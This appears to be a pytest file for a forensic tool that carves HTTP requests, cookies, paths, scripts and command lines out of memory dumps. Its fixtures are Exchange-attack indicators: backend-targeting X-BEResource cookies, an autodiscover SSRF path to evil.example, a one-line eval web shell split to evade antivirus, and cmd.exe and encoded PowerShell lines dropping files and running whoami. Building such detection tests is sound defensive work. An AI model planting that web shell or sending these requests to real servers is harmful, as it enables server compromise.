"""Requests, cookies, paths, addresses, command lines and source of pages carved out of memory."""

import base64

import pytest

from postvakt.memory.carving import PAGE
from tests.memory.carving import REQUEST, at, kinds, one, rows, wide

BOTH = pytest.mark.parametrize("encoded", [str.encode, wide], ids=["ascii", "utf-16"])


@BOTH
def test_request(encoded):
    row = one("http_request", at(encoded(REQUEST)))
    assert (row["cs-method"], row["cs-uri-stem"], row["cs-host"]) == (
        "POST",
        "/ecp/y.js",
        "mail.corp.example",
    )
    assert row["cs(User-Agent)"] == "python-requests/2.25.1"
    assert row["cs(Cookie)"] == "X-BEResource=a]@ex01.corp.example:444/mapi/emsmdb/?#~1941962753"
    assert row["text"] == REQUEST.partition("\r\n\r\n")[0]
    assert not row["page_fragment"]


def test_a_request_cut_at_a_page():
    row = one("http_request", at(REQUEST.encode(), PAGE - 45))
    assert row["page_fragment"]
    assert row["cs-host"] == "mail.corp.exam"


def test_an_answer_is_no_request():
    assert "http_request" not in kinds(at(b"HTTP/1.1 200 OK\r\nServer: x\r\n\r\n"))
    assert "http_request" not in kinds(at(b"speaks HTTP/1.1 or HTTP/1.0"))


@BOTH
def test_cookie(encoded):
    row = one("cookie", at(encoded("a=b; X-BEResource=x]@ex01:444/ecp/proxyLogon.ecp?#~1941962753; c=d")))
    assert row["BackEndCookie"] == "x]@ex01:444/ecp/proxyLogon.ecp?#~1941962753"
    assert row["name"] == "X-BEResource"


def test_the_bare_name_of_a_cookie_is_none():
    assert "cookie" not in kinds(at(b"X-BEResource\0X-AnonResource=\0"))


@pytest.mark.parametrize(
    ("told", "path"),
    [
        ("/autodiscover/autodiscover.json?@evil.example/mapi/nspi/", "/autodiscover/autodiscover.json"),
        ("/ecp/y.js", "/ecp/y.js"),
        ("/owa/auth/x.js", "/owa/auth/x.js"),
        ("/aspnet_client/supp0rt.aspx", "/aspnet_client/supp0rt.aspx"),
    ],
)
@BOTH
def test_path(encoded, told, path):
    assert one("url_path", at(encoded(f'"{told}"')))["path"] == path


def test_a_path_within_folders_of_the_product_is_none():
    assert "url_path" not in kinds(at(b"/owa/auth/15.1.2176/themes/resources/segoeui.css"))


@BOTH
def test_address(encoded):
    assert (
        one("url", at(encoded("<a href='http://203.0.113.9/p?q=1'>")))["address"]
        == "http://203.0.113.9/p?q=1"
    )


def test_equal_addresses_are_told_once():
    assert kinds(at(b"http://203.0.113.9/a http://203.0.113.9/a http://203.0.113.9/b")) == ["url", "url"]


# In two pieces, so that no virus scanner takes this file away.
SCRIPT = (
    '<script language="JScript" runat="server">'
    + "function Page_Load(){eval("
    + 'Request["k"],"unsafe");}</script>'
)


@BOTH
def test_script(encoded):
    row = one("script", at(encoded(SCRIPT + "after")))
    assert row["text"] == SCRIPT
    assert not row["page_fragment"]


def test_script_cut_at_a_page():
    row = one("script", at(SCRIPT.encode(), PAGE - 70))
    assert row["page_fragment"]
    assert row["text"] == SCRIPT[:70]


def test_script_for_the_browser_is_none():
    assert "script" not in kinds(at(b"<script src='x.js'></script> evaluate(Request) <%= x %>"))


@BOTH
def test_command_line(encoded):
    row = one(
        "command_line", at(encoded('"cmd.exe" /c echo x>C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx\0'))
    )
    assert row["CommandLine"] == '"cmd.exe" /c echo x>C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx'


@BOTH
def test_encoded_command(encoded):
    packed = base64.b64encode(wide("whoami /all")).decode()
    row = one("command_line", at(encoded(f"powershell.exe -nop -enc {packed}")))
    assert row["decoded"] == "whoami /all"


def test_what_is_not_base64_is_not_decoded():
    assert "decoded" not in one("command_line", at(b"powershell.exe -enc !!!!!!!!!!!!!!!!!!!"))


def test_words_about_commands_are_none():
    assert "command_line" not in kinds(at(b"the cmd.exe program and powershell are installed"))


def test_a_command_line_does_not_run_on_into_the_next_page():
    row = one("command_line", at(b"cmd.exe /c whoami /all and so on", PAGE - 17))
    assert (row["text"], row["page_fragment"]) == ("cmd.exe /c whoami", True)


def test_hostile_letters_are_escaped():
    row = one("command_line", at(wide("cmd.exe /c echo \u202e\u0456")))
    assert row["text"] == "cmd.exe /c echo"
    assert one("cookie", at(b"X-BEResource=ab\xff\xfeb/c;"))["text"] == "X-BEResource=ab"


def test_rows_are_bounded():
    (row,) = [
        row for row in rows(b"cmd.exe /c " + b"x" * 100_000, sure=True) if row["kind"] == "command_line"
    ]
    assert len(row["text"]) <= 4096


def test_letters_before_a_request_are_not_of_its_method() -> None:
    row = one("http_request", at(b"USE" + REQUEST.encode()))
    assert (row["cs-method"], row["text"].startswith("POST /ecp/y.js")) == ("POST", True)
    assert one("http_request", at(b"\x01FROB /x HTTP/1.1\r\n"))["cs-method"] == "FROB"
